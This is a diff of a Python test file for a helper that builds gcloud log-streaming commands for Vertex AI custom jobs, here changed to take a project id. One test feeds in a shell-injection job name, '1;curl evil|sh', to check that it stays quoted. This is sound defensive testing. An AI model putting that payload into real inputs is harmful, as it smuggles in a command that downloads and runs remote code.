@@ -27,7 +27,9 @@ def test_the_log_is_asked_for_by_the_job_and_nothing_else() -> None:
 
 
 def test_gcloud_follows_the_log_of_the_job() -> None:
-    assert console_urls.follow(JOB) == "gcloud ai custom-jobs stream-logs 456 --region=us-east4 --project=123"
+    """Names of jobs have the number of the project, which this command refuses."""
+    line = console_urls.follow(JOB, "acme-ml")
+    assert line == "gcloud ai custom-jobs stream-logs 456 --region=us-east4 --project=acme-ml"
 
 
 def test_what_lies_in_a_bucket_has_a_page_and_a_local_path_has_none() -> None:
@@ -38,12 +40,12 @@ def test_what_lies_in_a_bucket_has_a_page_and_a_local_path_has_none() -> None:
 
 @given(st.from_regex(fields.JOB, fullmatch=True))
 def test_the_printed_command_has_no_arguments_from_a_record(job: str) -> None:
-    words = shlex.split(console_urls.follow(job))
+    words = shlex.split(console_urls.follow(job, "acme-ml"))
     assert words[:4] == ["gcloud", "ai", "custom-jobs", "stream-logs"]
     assert [word.partition("=")[0] for word in words[5:]] == ["--region", "--project"]
 
 
 def test_what_a_shell_would_run_is_quoted() -> None:
     """The ledger holds no such name; nothing printed relies on that."""
-    line = console_urls.follow("projects/p/locations/r/customJobs/1;curl evil|sh")
+    line = console_urls.follow("projects/p/locations/r/customJobs/1;curl evil|sh", "p")
     assert shlex.split(line)[4] == "1;curl evil|sh"
